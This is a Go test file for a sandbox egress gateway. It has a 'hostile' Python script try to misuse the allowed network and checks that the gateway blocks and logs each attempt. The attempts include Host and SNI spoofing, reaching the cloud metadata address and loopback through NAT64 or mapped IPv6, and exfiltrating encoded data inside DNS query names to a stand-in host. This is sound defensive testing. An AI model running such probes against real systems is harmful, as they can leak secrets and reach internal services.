//go:build linux

package isolation_test

import (
	"context"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"sallyport/gateway/isolation"
	"sallyport/internal/testutil"
	"sallyport/internal/testutil/tlstest"
	"sallyport/sandbox/egress"
)

// zone resolves names as a hostile or a friendly name server would.
func zone(names map[string]string) egress.Lookup {
	return func(_ context.Context, name string) ([]netip.Addr, error) {
		at, ok := names[name]
		if !ok {
			return nil, &net.DNSError{Err: "no such host", Name: name, IsNotFound: true}
		}
		return []netip.Addr{netip.MustParseAddr(at)}, nil
	}
}

// site is a server over TLS on the standard port of an address of its own, which redirects to another host.
func site(t *testing.T, address string) {
	t.Helper()
	listener, err := net.Listen("tcp", address)
	if err != nil {
		t.Skipf("this user cannot listen on %s: %v", address, err)
	}
	server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/away" {
			http.Redirect(w, r, "https://other.test/", http.StatusFound)
			return
		}
		_, _ = w.Write([]byte("hello " + r.Host))
	}))
	_ = server.Listener.Close()
	server.Listener = listener
	tlstest.StartHTTP1(t, server)
	t.Cleanup(server.Close)
}

// prelude are the helpers of the code that the hostile server runs.
const prelude = `
import http.client, socket, ssl, urllib.request
def tls(host, port=443, sni=None, connect=None):
    context = ssl._create_unverified_context()
    raw = socket.create_connection((connect or host, port), 5)
    return context.wrap_socket(raw, server_hostname=sni or host)
def get(host, path="/", **more):
    with tls(host, **more) as s:
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while more := s.recv(4096): data += more
    return data.decode().split("\r\n\r\n")[1]
def query(name, kind=1, server="198.18.0.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    s.sendto(b"\x00\x07\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00" + bytes([0, kind, 0, 1]), (server, 53))
    reply = s.recv(512)
    return [reply[3] & 15, reply[7]]
`

// TestNetwork has a hostile server use and misuse the network of allowed hosts.
func TestNetwork(t *testing.T) {
	testutil.TAP(t)
	const at, evil = "127.0.0.81", "127.0.0.82"
	site(t, at+":443")
	site(t, evil+":443")
	plain, err := net.Listen("tcp", at+":0")
	if err != nil {
		t.Fatal(err)
	}
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write([]byte("plain " + r.Host)) }), ReadHeaderTimeout: time.Second}
	go func() { _ = server.Serve(plain) }()
	t.Cleanup(func() { _ = server.Close() })
	port := plain.Addr().(*net.TCPAddr).AddrPort().Port()
	launcher := launcherWith(t, isolation.Options{Lookup: zone(map[string]string{
		"api.test": at, "other.test": evil, "a.wild.test": at, "inside.test": "127.0.0.1", "meta.test": "169.254.169.254", "ec2.test": "fd00:ec2::254", "nat.test": "64:ff9b::7f00:1", "mapped.test": "::ffff:127.0.0.1",
	})})
	s := open(t, launcher, parse(t, hostile(t, "  hosts: [inside.test, meta.test, nat.test, mapped.test, gone.test]\n  private_hosts: [api.test, \"api.test:"+itoa(port)+"\", \"*.wild.test\", ec2.test]")))
	for _, test := range []struct{ name, code, want string }{
		{"an allowed host", "answer = get('api.test')", "hello api.test"},
		{"a host below a wildcard", "answer = get('a.wild.test')", "hello a.wild.test"},
		{"a verified certificate", "answer = urllib.request.urlopen('https://api.test/', timeout=5).read()", "CERTIFICATE_VERIFY_FAILED"},
		{"plain HTTP on an allowed port", "answer = urllib.request.urlopen('http://api.test:" + itoa(port) + "/', timeout=5).read().decode()", "plain api.test:" + itoa(port)},
		{"a Host of another", "c = http.client.HTTPConnection('api.test', " + itoa(port) + ", timeout=5)\nc.request('GET', '/', headers={'Host': 'other.test'})\nanswer = c.getresponse().status", "RemoteDisconnected|ConnectionReset"},
		{"two Hosts", "s = socket.create_connection(('api.test', " + itoa(port) + "), 5)\ns.sendall(b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nHost: other.test\\r\\n\\r\\n')\nanswer = len(s.recv(100))", "0|ConnectionReset"},
		{"an absolute target", "s = socket.create_connection(('api.test', " + itoa(port) + "), 5)\ns.sendall(b'GET http://other.test/ HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')\nanswer = len(s.recv(100))", "0|ConnectionReset"},
		{"HTTP/2 without TLS", "s = socket.create_connection(('api.test', " + itoa(port) + "), 5)\ns.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')\nanswer = len(s.recv(100))", "0|ConnectionReset"},
		{"another name", "answer = get('other.test')", "gaierror"},
		{"a redirect to it", "urllib.request.urlopen(urllib.request.Request('https://api.test/away'), context=ssl._create_unverified_context(), timeout=5)", "URLError.*(Name or service|name resolution)"},
		{"a name above the wildcard", "answer = get('wild.test')", "gaierror"},
		{"SNI of another", "answer = get('api.test', sni='other.test')", "SSL|EOF|ConnectionReset"},
		{"no TLS on port 443", "s = socket.create_connection(('api.test', 443), 5)\ns.sendall(b'SSH-2.0-x\\r\\n')\nanswer = len(s.recv(100))", "0|ConnectionReset"},
		{"HTTP on port 443", "s = socket.create_connection(('api.test', 443), 5)\ns.sendall(b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')\nanswer = len(s.recv(100))", "0|ConnectionReset"},
		{"another port", "socket.create_connection(('api.test', 22), 5)", "ConnectionRefusedError"},
		{"an address of loopback", "socket.create_connection(('" + evil + "', 443), 5)", "ConnectionRefusedError"},
		{"the address of a host", "socket.create_connection(('" + at + "', 443), 5)", "ConnectionRefusedError"},
		{"a public address", "socket.create_connection(('1.1.1.1', 443), 5)", "ConnectionRefusedError"},
		{"an address of no name", "socket.create_connection(('198.18.77.77', 443), 5)", "ConnectionRefusedError"},
		{"the gateway", "socket.create_connection(('198.18.0.1', 443), 5)", "ConnectionRefusedError"},
		{"the metadata server", "socket.create_connection(('169.254.169.254', 80), 5)", "ConnectionRefusedError"},
		{"a name of the metadata server", "socket.create_connection(('meta.test', 443), 5)", "ConnectionRefusedError"},
		{"a private name of a metadata server", "socket.create_connection(('ec2.test', 443), 5)", "ConnectionRefusedError"},
		{"a name of this machine", "socket.create_connection(('inside.test', 443), 5)", "ConnectionRefusedError"},
		{"a name of it behind NAT64", "socket.create_connection(('nat.test', 443), 5)", "ConnectionRefusedError"},
		{"a name of it in IPv6", "socket.create_connection(('mapped.test', 443), 5)", "ConnectionRefusedError"},
		{"a name without address", "socket.create_connection(('gone.test', 443), 5)", "ConnectionRefusedError"},
		{"IPv6", "socket.create_connection(('2606:4700:4700::1111', 443), 5)", "Errno (99|101|113)"},
		{"an allowed name asked for", "answer = query('api.test')", "[0 1]"},
		{"data in a name", "answer = query('c2VjcmV0.exfiltration.other.test')", "[3 0]"},
		{"a text record", "answer = query('c2VjcmV0.other.test', 16)", "[3 0]"},
		{"a text record of an allowed name", "answer = query('api.test', 16)", "[0 0]"},
		{"another name server", "answer = query('api.test', server='8.8.8.8')", "ConnectionRefused|timeout|timed out"},
		{"UDP", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(1)\ns.connect(('api.test', 443))\ns.send(b'x')\ns.recv(1)", "ConnectionRefused|timeout|timed out"},
		{"loopback of the host", "socket.create_connection(('127.0.0.1', " + itoa(port) + "), 3)", "ConnectionRefusedError"},
		{"a raw socket", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 6)", "PermissionError"},
		{"a packet socket", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)", "PermissionError"},
	} {
		t.Run(test.name, func(t *testing.T) {
			got := text(run(t, s, prelude+test.code))
			if !matches(test.want, got) {
				t.Errorf("%q, want %s", got, test.want)
			}
		})
	}
	stderr := s.State().Stderr
	for _, line := range []string{
		`refused other.test: the host is not allowed; to allow it, add to isolate: hosts: ["other.test"]`,
		`refused api.test:22: the port is not allowed; to allow it, add to isolate: hosts: ["api.test:22"]`,
		`refused inside.test:443: it has an address of a private network or of this machine; to allow it, add to isolate: private_hosts: ["inside.test"]`,
		"refused 1.1.1.1:443: only names are allowed, no addresses", "refused meta.test:443: it has a link-local or metadata address", "refused ec2.test:443: it has a link-local or metadata address",
		"refused api.test:443: the TLS handshake names another host", "refused api.test:443: port 443 is for TLS only", "refused api.test:" + itoa(port) + ": the HTTP request names another host",
		"refused api.test:443: UDP is not allowed", "refused gone.test:443: its name was not resolved",
	} {
		if !strings.Contains(stderr, "sallyport: "+line) {
			t.Errorf("the log lacks %q", line)
		}
	}
	if t.Failed() {
		t.Log(stderr)
	}
}

func itoa(port uint16) string { return strconv.Itoa(int(port)) }

// matches reports whether a text has a part that matches an expression, or is the same.
func matches(want, got string) bool {
	return got == want || regexp.MustCompile(want).MatchString(got) && want[0] != '['
}
